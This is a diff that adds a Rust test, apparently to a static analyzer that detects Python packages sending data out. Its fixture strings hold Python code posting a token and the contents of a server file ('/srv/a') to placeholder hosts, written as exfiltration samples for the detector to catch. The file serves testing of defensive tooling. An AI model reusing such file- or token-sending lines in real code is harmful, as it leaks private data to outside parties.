@@ -564,3 +564,22 @@ requests.post('https://ship.example.invalid/a', data=TOKEN.get())
     assert!(!sent.is_empty() && sent.iter().all(|line| line.contains("SHIP_TOKEN")), "{paths}");
     assert!(paths.lines().any(|line| line.contains("SHIP_ORIGIN") && line.contains("-> log print")), "{paths}");
 }
+
+/// A command that is added to a group of commands runs when the group does.
+#[test]
+fn a_function_that_is_added_to_another_runs_with_it() {
+    let setup = "from setuptools import setup\n\nsetup(name='one', packages=['one'], entry_points={'console_scripts': ['one = one.cli:cli']})\n";
+    let cli = |decorator: &str| {
+        format!(
+            "import click\nimport requests\n\n@click.group()\n@click.option('-f')\ndef cli(f):\n    pass\n\n{decorator}\ndef send():\n    requests.post('https://files.example.invalid/a', data=open('/srv/a').read())\n"
+        )
+    };
+    for (decorator, when) in [
+        ("@cli.command('send')", vec!["run".to_owned()]),
+        ("@cli.command", vec!["run".to_owned()]),
+        ("@click.command()", vec![]),
+    ] {
+        let found = sent(&[("setup.py", setup), ("one/__init__.py", ""), ("one/cli.py", &cli(decorator))]);
+        assert_eq!(found, [("/srv/a".to_owned(), when)], "{decorator}");
+    }
+}
